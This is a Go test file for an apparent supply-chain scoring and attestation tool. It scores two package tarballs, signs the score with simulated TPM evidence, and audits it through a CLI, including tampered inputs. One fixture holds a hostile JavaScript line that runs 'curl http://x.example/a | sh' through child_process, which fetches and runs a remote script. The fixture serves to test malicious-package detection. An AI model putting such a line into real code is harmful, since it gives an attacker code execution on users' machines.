package main

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/ethereum/go-ethereum/crypto"
	"github.com/vouchpm/vouch/attestation"
	"github.com/vouchpm/vouch/enclave/chain"
	"github.com/vouchpm/vouch/enclave/wire"
	"github.com/vouchpm/vouch/host/store"
	"github.com/vouchpm/vouch/scorer"
	"time"
)

// TestAuditScore scores a real pair of tarballs with the scorer's engine,
// signs and quotes it like the scorer enclave (simulated TPM), stores it in
// the host, and audits it through the CLI; then tampers with each input.
func TestAuditScore(t *testing.T) {
	f := newFlowEnv(t)
	ctx := context.Background()
	basePath, baseTgz := packDir(t, "widget", "1.0.0", "module.exports = 1\n")
	newPath, newTgz := packDir(t, "widget", "1.0.1", "const cp = require('child_process')\ncp.exec('curl http://x.example/a | sh')\n")
	score, rep, err := (&scorer.Engine{}).Evaluate(ctx, scorer.Request{PackageName: "widget", Version: "1.0.1", Base: baseTgz, New: newTgz})
	if err != nil {
		t.Fatal(err)
	}
	// The scorer's key, registered on chain with real simulated-TPM evidence:
	// audit score reads the evidence from the chain, not from the host.
	scorerKey, err := crypto.GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	ev, err := attestation.Attest(ctx, f.coord.att, attestation.NewBinding(attestation.RoleScorer, &scorerKey.PublicKey,
		f.chain.Domain.ChainID, f.chain.Domain.Registry, nil, time.Now()))
	if err != nil {
		t.Fatal(err)
	}
	evBytes, err := ev.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.chain.RegisterEnclave(ctx, chain.RoleScorer, crypto.PubkeyToAddress(scorerKey.PublicKey), [32]byte{2}, evBytes); err != nil {
		t.Fatal(err)
	}
	signed, err := (&scorer.Signer{Key: scorerKey, Domain: f.chain.Domain, Attester: f.coord.att}).Sign(ctx, score, rep)
	if err != nil {
		t.Fatal(err)
	}
	msg, _ := json.Marshal(signed.Score)
	repJSON, _ := json.Marshal(rep)
	// What the host should store as the per-score quote: the platform's quote
	// with its aux (host/relay keeps only the quote today).
	env := attestation.Evidence{Version: attestation.FormatVersion, Platform: signed.Platform, Quote: signed.Quote, Aux: signed.Aux}
	quoteEnv, err := env.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	put := func(reportJSON []byte, version string) {
		t.Helper()
		id := wire.HexDigest(signed.Digest)
		if _, err := f.store.CreateRelease(ctx, store.Release{ID: id, Package: "widget", Version: version, ContentHash: "0x00", Proposal: []byte(`{}`)}); err != nil {
			t.Fatal(err)
		}
		if err := f.store.PutScore(ctx, store.Score{ReleaseID: id, Package: "widget", Version: version, Score: int(score.Score),
			Message: msg, Sig: signed.Signature, Evidence: quoteEnv, Report: reportJSON}); err != nil {
			t.Fatal(err)
		}
	}
	put(repJSON, "1.0.1")

	args := []string{"audit", "score", "widget@1.0.1", "--allow-simulated", "--roots", f.akPEM, "--base", basePath, "--new", newPath}
	code, out, errOut := f.try(t, "", append(args, "--json")...)
	var a scoreAudit
	if err := json.Unmarshal([]byte(out), &a); err != nil {
		t.Fatalf("audit score --json: %v\n%s%s", err, out, errOut)
	}
	if code != 0 || !a.Verified || len(a.Checks) != 5 {
		t.Fatalf("audit of an honest score: exit %d %+v\n%s", code, a, errOut)
	}

	// Two days later the scorer's registered evidence is still judged at its
	// registration block's time, not refused as older than the 24 h default;
	// the output says that no fresh nonce is asked for.
	later := time.Now().Add(48 * time.Hour)
	timeNow = func() time.Time { return later }
	code, out, errOut = f.try(t, "", append(args, "--json")...)
	timeNow = time.Now
	a = scoreAudit{}
	if err := json.Unmarshal([]byte(out), &a); err != nil || code != 0 || !a.Verified {
		t.Fatalf("audit two days after registration: exit %d %+v\n%s%s", code, a, out, errOut)
	}
	if d := a.Checks[1].Detail; a.Checks[1].Check != "scorer" || !strings.Contains(d, "judged at") || !strings.Contains(d, "no fresh nonce") {
		t.Fatalf("the scorer check does not say what it checks: %+v", a.Checks[1])
	}

	// Heuristics-only score: rescore recomputes it bit for bit, and a different
	// base changes baseContentHash, inputHash and the findings.
	code, out, errOut = f.try(t, "", "rescore", "widget@1.0.1", "--base", basePath, "--new", newPath)
	if code != 0 || !strings.Contains(out, "IDENTICAL: widget@1.0.1 rescored to the recorded score") {
		t.Fatalf("rescore: exit %d\n%s%s", code, out, errOut)
	}
	code, out, errOut = f.try(t, "", "rescore", "widget@1.0.1", "--new", newPath)
	if code != exitFindings || !strings.Contains(out, "DIFF baseContentHash") || !strings.Contains(errOut, "differs from the recorded score in [baseContentHash inputHash") {
		t.Fatalf("rescore as a first release: exit %d\n%s%s", code, out, errOut)
	}

	// A base that is not the scored one breaks inputHash.
	code, out, _ = f.try(t, "", "audit", "score", "widget@1.0.1", "--allow-simulated", "--roots", f.akPEM, "--base", newPath, "--new", newPath)
	if code != exitFindings || !strings.Contains(out, "FAIL inputHash") {
		t.Fatalf("wrong base: exit %d\n%s", code, out)
	}
	// Without the simulated AK the scorer's evidence does not verify.
	code, out, _ = f.try(t, "", "audit", "score", "widget@1.0.1", "--allow-simulated", "--base", basePath, "--new", newPath)
	if code != exitFindings || !strings.Contains(out, "FAIL scorer") {
		t.Fatalf("untrusted AK: exit %d\n%s", code, out)
	}
	// No policy at all is a usage error.
	if code, _, errOut := f.try(t, "", "audit", "score", "widget@1.0.1"); code != exitUsage || !strings.Contains(errOut, "no attestation policy") {
		t.Fatalf("no policy: exit %d %s", code, errOut)
	}
	// A bare quote without its aux cannot be verified (what host/relay stores today).
	if p, q, aux := perScoreQuote(signed.Quote, "sim"); p != "sim" || !bytes.Equal(q, signed.Quote) || aux != nil {
		t.Fatalf("a bare quote must be read as the scorer platform's quote without aux")
	}

	// No score recorded.
	if code, _, errOut := f.try(t, "", "audit", "score", "widget@9.9.9", "--allow-simulated"); code != exitFindings || !strings.Contains(errOut, "holds no score") {
		t.Fatalf("unknown version: exit %d %s", code, errOut)
	}
}

func FuzzPerScoreQuote(f *testing.F) {
	env := attestation.Evidence{Version: attestation.FormatVersion, Platform: "sim", Quote: []byte("q"), Aux: []byte("a")}
	b, _ := env.Marshal()
	f.Add(b)
	f.Add([]byte("bare quote"))
	f.Fuzz(func(t *testing.T, data []byte) {
		p, q, _ := perScoreQuote(data, "tpm")
		if p == "" || (p != "tpm" && len(q) == 0) {
			t.Fatalf("platform %q with an empty quote", p)
		}
	})
}
